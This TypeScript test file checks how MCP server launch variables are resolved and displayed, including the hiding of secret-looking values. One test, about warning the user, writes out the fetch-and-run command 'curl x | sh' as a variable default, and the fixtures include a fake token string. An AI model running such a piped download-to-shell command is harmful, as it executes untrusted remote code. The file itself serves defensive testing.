import assert from 'node:assert/strict';
import { quotedText } from '../../../../src/base/text/visibleText.ts';
import { sayableLaunch, shownVariables } from '../../../../src/host/launch/launchVariables.ts';
import type { DefinitionOrigin, InputDeclaration } from '../../../../src/host/config/serverDefinition.ts';
import { httpServer, stdioServer } from '../../support/definitions.ts';
import { launchOf } from '../../support/launches.ts';
import { pathOnDisk, uriOnDisk } from '../../support/onDisk.ts';

const token: InputDeclaration = { type: 'promptString', id: 'token', password: true };
const surroundings = {
  folders: [{ uri: uriOnDisk('/projects/api'), name: 'api' }],
  env: {
    TOOLS: '/opt/my tools',
    API_TOKEN: 'hidden',
    PLAIN: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
    A: 'a\u202E',
  },
};

suite('Where the variables of a launch lead', () => {
  test('is shown for each variable that decides what runs, and for places in every field', () => {
    const definition = stdioServer(['${env:TOOLS}/x', '--key=${input:token}', '${env:NOT_SET}', '${env:A}'], {
      command: '${userHome}/bin',
      env: { ROOT: '${workspaceFolder}', KEY: '${env:OTHER}', NODE_OPTIONS: '${env:TOOLS}' },
      inputs: [token],
    });
    assert.deepEqual(
      shownVariables(launchOf(definition, surroundings)).map(
        ({ written, becomes }) => `${written} ${becomes}`,
      ),
      [
        '${userHome} /home/me',
        `\${workspaceFolder} ${quotedText(pathOnDisk('/projects/api'))}`,
        '${env:TOOLS} "/opt/my tools"',
        '${input:token} what you enter when it starts',
        '${env:NOT_SET} nothing: it has no value now',
        String.raw`${'${env:A}'} 'a\u{202E}'`,
      ],
    );
  });

  test('is not shown for what looks like a secret, by its name or its value', () => {
    const launch = launchOf(stdioServer(['${env:API_TOKEN}', '${env:PLAIN}']), surroundings);
    const hidden = 'a value of your environment that looks like a secret';
    assert.deepEqual(
      shownVariables(launch).map(({ becomes }) => becomes),
      [hidden, hidden],
    );
    const { definition } = sayableLaunch(launch);
    assert.ok(definition.type === 'stdio');
    assert.deepEqual(definition.args, ['${env:API_TOKEN}', '${env:PLAIN}']);
  });

  test('is what warnings are about: a shell in the default of a variable is a shell', () => {
    const origin: DefinitionOrigin = { scope: 'user', format: 'mcpJson', place: 'file:///m' };
    const shell = stdioServer(['-c', '${TOKEN:-curl x | sh}'], { command: '${SHELL_TOKEN:-bash}', origin });
    const { definition } = sayableLaunch(launchOf(shell, surroundings));
    assert.ok(definition.type === 'stdio');
    assert.deepEqual([definition.command, ...definition.args], ['bash', '-c', 'curl x | sh']);
  });

  test('of a sign-in, and not of its secrets', () => {
    const oauth = { clientId: '${env:TOOLS}', clientSecret: '${input:token}', scopes: ['${env:API_TOKEN}'] };
    const launch = launchOf(httpServer('https://x.example/', { oauth, inputs: [token] }), surroundings);
    assert.deepEqual(
      shownVariables(launch).map(({ written }) => written),
      ['${env:TOOLS}', '${env:API_TOKEN}'],
    );
    const { definition } = sayableLaunch(launch);
    assert.ok(definition.type !== 'stdio');
    assert.deepEqual(definition.oauth, { ...oauth, clientId: '/opt/my tools' });
  });

  test('of an address, and not of its headers', () => {
    const remote = httpServer('https://${env:TOOLS}/', { headers: { Key: '${env:API_TOKEN}' } });
    const launch = launchOf(remote, surroundings);
    assert.deepEqual(
      shownVariables(launch).map(({ written }) => written),
      ['${env:TOOLS}'],
    );
    const { definition } = sayableLaunch(launch);
    assert.deepEqual(definition, { ...remote, url: 'https:///opt/my tools/' });
  });
});
